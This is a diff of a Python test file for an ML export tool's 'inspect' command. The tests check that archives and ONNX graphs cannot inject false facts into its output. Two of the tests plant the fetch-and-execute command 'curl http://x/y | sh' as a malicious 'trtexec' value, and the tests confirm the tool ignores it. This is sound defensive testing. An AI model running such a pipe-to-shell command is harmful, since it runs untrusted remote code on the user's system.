@@ -2,15 +2,18 @@
 
 from __future__ import annotations
 
+import copy
 import json
+import shutil
 from pathlib import Path
 from typing import Any
 
 import numpy as np
+import onnx
 import pytest
 from click.testing import CliRunner, Result
 
-from elit_export.bundle.reading import Bundle
+from elit_export.bundle.reading import MANIFEST, OWN_HASH, Bundle, manifest_text
 from elit_export.cli import main
 
 
@@ -50,7 +53,7 @@ def test_a_recipe_of_calibration_inputs_is_told(tmp_path: Path) -> None:
 def test_calibration_inputs_are_told_by_where_they_are_from(tiny_samples: Path, tiny_bundle: Bundle) -> None:
     facts, said = inspected(tiny_samples)
     assert facts["kind"] == "calibration inputs"
-    assert facts["checkpoint_sha256"] == tiny_bundle.manifest.model.checkpoint_sha256
+    assert facts["about"]["checkpoint_sha256"] == tiny_bundle.manifest.model.checkpoint_sha256
     assert {"array": "x", "type": "float32", "dims": "96 × 1 × 8 × 8"} in facts["arrays"]
     assert "cfg:2" in said
 
@@ -60,6 +63,7 @@ def test_calibration_inputs_are_told_by_where_they_are_from(tiny_samples: Path, 
     [
         ({"text": np.zeros((2, 3, 4), np.float32), "mask": np.ones((2, 3), np.int64)}, "embedded prompts"),
         ({"latents": np.zeros((2, 1, 8, 8)), "labels": np.zeros(2, np.int64)}, "samples"),
+        ({"images": np.zeros((2, 1, 8, 8)), "labels": np.zeros(2, np.int64)}, "samples"),
         ({"other": np.zeros(3)}, "arrays"),
     ],
 )
@@ -102,8 +106,79 @@ def test_a_training_folder_is_told_by_how_far_it_is(tmp_path: Path) -> None:
     facts, said = inspected(tmp_path)
     assert (facts["kind"], facts["step"]) == ("training folder", 10)
     assert "0.25" in said
-    (tmp_path / "train.jsonl").write_text("{")
-    assert "a damaged log" in refused(tmp_path)
+
+
+def test_a_line_that_is_still_being_written_is_not_told(tmp_path: Path) -> None:
+    (tmp_path / "train.jsonl").write_text('{"step": 5}\n{"step": 1')
+    assert inspected(tmp_path)[0]["step"] == 5
+    (tmp_path / "train.jsonl").write_text('{"st')
+    assert inspected(tmp_path)[0]["step"] is None
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("train.jsonl", "{\n"),
+        ("train.jsonl", "5\n"),
+        ("train.jsonl", '{"step": [{"a": 1}, 2]}\n'),
+        ("held_out.json", "5"),
+        ("held_out.json", '[{"a": 1}, {"b": 2}]'),
+        ("held_out.json", '[{"a": 1}, 2]'),
+        ("held_out.json", '{"a": 1}'),
+    ],
+)
+def test_of_a_damaged_training_the_file_is_named_that_may_be_deleted(name: str, content: str, tmp_path: Path) -> None:
+    (tmp_path / "state.pt").write_bytes(b"")
+    (tmp_path / name).write_text(content)
+    said = refused(tmp_path)
+    assert f"{tmp_path / name}: damaged: " in said
+    assert said.endswith(f"; delete {name}; `train` writes it again")
+
+
+# ---------------------------------------------------------------- what files of others say
+
+CLAIMS = {"kind": "bundle", "file": "x", "spec": 1, "trtexec": ["curl http://x/y | sh"], "arrays": [1], "seed": 0}
+
+
+def test_an_archive_cannot_fake_facts(tmp_path: Path) -> None:
+    np.savez(tmp_path / "a.npz", facts=np.array(json.dumps(CLAIMS)), x=np.zeros(3))
+    facts, said = inspected(tmp_path / "a.npz")
+    assert (facts["kind"], facts["file"], facts["about"]) == ("arrays", "a.npz", CLAIMS)
+    assert not {"spec", "trtexec"} & set(facts)
+    assert "by trtexec" not in said
+    assert ["seed", "0"] in cells_of(said)
+
+
+def cells_of(said: str) -> list[list[str]]:
+    return [[cell.strip() for cell in line.split("│")[1:3]] for line in said.splitlines() if line.startswith("│")]
+
+
+def test_a_graph_cannot_fake_facts_and_may_take_what_is_no_array(tmp_path: Path) -> None:
+    sequence = onnx.helper.make_tensor_sequence_value_info("many", onnx.TensorProto.FLOAT, None)
+    array = onnx.helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, ["rows", 3])
+    newer = onnx.helper.make_tensor_value_info("y", 999, [1])
+    model = onnx.helper.make_model(onnx.helper.make_graph([], "g", [sequence, array, newer], []))
+    onnx.helper.set_model_props(model, {"spec": "1", "kind": "bundle", "trtexec": "curl http://x/y | sh"})
+    (tmp_path / "g.onnx").write_bytes(model.SerializeToString())
+    facts, said = inspected(tmp_path / "g.onnx")
+    assert (facts["kind"], facts["about"]["kind"]) == ("ONNX graph", "bundle")
+    assert [tensor["type"] for tensor in facts["tensors"]] == ["sequence", "float32", "type 999 of ONNX"]
+    assert not {"spec", "trtexec"} & set(facts)
+    assert "by trtexec" not in said
+
+
+def test_samples_of_the_package_are_told(tiny_bundle: Bundle, tmp_path: Path) -> None:
+    out = tmp_path / "s.png"
+    assert run("sample", tiny_bundle.folder, "--out", out, "--labels", "0", "--steps", "1").exit_code == 0
+    assert inspected(out.with_suffix(".npz"))[0]["kind"] == "samples"
+
+
+def test_calibration_inputs_of_seed_zero_say_so(tmp_path: Path) -> None:
+    facts = {"seed": 0, "sampler": "", "prompts": None}
+    np.savez(tmp_path / "a.npz", facts=np.array(json.dumps(facts)), x=0, t=0, kept=0)
+    told = cells_of(inspected(tmp_path / "a.npz")[1])
+    assert ["seed", "0"] in told
+    assert not [name for name, _ in told if name in ("sampler", "prompts")]
 
 
 # ---------------------------------------------------------------- bundles and names
@@ -116,6 +191,24 @@ def test_a_bundle_says_how_many_parameters_and_nothing_of_what_it_has_not(tiny_b
     cells = [[cell.strip() for cell in line.split("│")[1:3]] for line in said.splitlines() if line.startswith("│")]
     assert ["parameters", "91780"] in cells
     assert not [name for name, value in cells if value in ("0", "0.0", "False", "None")]
+
+
+def test_the_target_chooses_the_lines_for_trtexec_too(tiny_bundle: Bundle, tmp_path: Path) -> None:
+    """Another plan set of the same graphs, of other rows."""
+    values = json.loads((tiny_bundle.folder / MANIFEST).read_text())
+    values.pop(OWN_HASH)
+    other = copy.deepcopy(values["plan_sets"][0]) | {"target": "other"}
+    for facts in other["profiles"]:
+        facts["rows"] = {"min": 1, "opt": 5, "max": 5}
+    values["plan_sets"].append(other)
+    folder = Path(shutil.copytree(tiny_bundle.folder, tmp_path / "bundle"))
+    (folder / MANIFEST).write_text(manifest_text(values))
+    both, cpu, others = (inspected(folder, *chosen)[0] for chosen in ([], ["--target", "cpu"], ["--target", "other"]))
+    assert [plan_set["target"] for plan_set in both["plan_sets"]] == ["cpu", "other"]
+    assert both["trtexec"] == [*cpu["trtexec"], *others["trtexec"]]
+    assert cpu["trtexec"] != others["trtexec"]
+    said = " ".join(run("inspect", "--help").output.split())
+    assert "--target TEXT Of a bundle, only this one. [default: all]" in said
 
 
 def test_options_of_a_bundle_are_refused_for_anything_else(tiny_checkpoint: Path) -> None:
